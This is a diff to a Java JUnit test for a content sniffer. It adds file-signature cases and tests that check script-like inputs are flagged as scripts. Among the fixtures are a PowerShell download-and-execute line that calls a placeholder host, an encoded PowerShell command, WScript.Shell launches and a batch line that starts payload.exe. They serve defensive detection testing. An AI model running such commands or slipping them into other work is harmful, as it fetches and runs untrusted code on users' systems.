@@ -6,6 +6,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
 import java.util.Optional;
 
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
@@ -41,6 +42,8 @@ class ContentSnifferTest {
         "batch, 406563686f206f66660d0a, script",
         "batch upper case, 404543484f204f46460d0a, script",
         "shebang after a byte order mark, efbbbf2321707974686f6e, script",
+        "bzip2, 425a683931415926, archive",
+        "Windows shortcut (LNK), 4c0000000114020000000000c0000000, script",
         "text, 68656c6c6f, ''",
         "png, 89504e470d0a1a0a, ''",
         "too short for MZ, 4d, ''",
@@ -69,5 +72,26 @@ class ContentSnifferTest {
         System.arraycopy("CD001".getBytes(StandardCharsets.US_ASCII), 0, head, 0x8001, 5);
 
         assertThat(ContentSniffer.sniff(head, length)).isEqualTo(kind.isEmpty() ? Optional.empty() : Optional.of(kind));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', value = {
+        "JScript | var s = new ActiveXObject('WScript.Shell'); s.Run('calc');",
+        "VBScript | On Error Resume Next: Set s = CreateObject(\"WScript.Shell\")",
+        "PowerShell | $c = New-Object Net.WebClient; IEX($c.DownloadString(\"http://x/p\"))",
+        "PowerShell, encoded | powershell -EncodedCommand SQBFAFgA",
+        "HTA | <html><head><HTA:APPLICATION ID=\"x\"></head></html>",
+        "batch without echo off | rem setup & cmd /c start payload.exe"})
+    void scriptsShouldBeRecognizedByTheirMarkers(String what, String script) {
+        byte[] text = script.getBytes(StandardCharsets.ISO_8859_1);
+
+        assertThat(ContentSniffer.sniff(text, text.length)).contains("script");
+    }
+
+    @Test
+    void powerShellInUtf16ShouldBeRecognized() {
+        byte[] text = ("\ufeffInvoke-Expression $payload").getBytes(StandardCharsets.UTF_16LE);
+
+        assertThat(ContentSniffer.sniff(text, text.length)).contains("script");
     }
 }
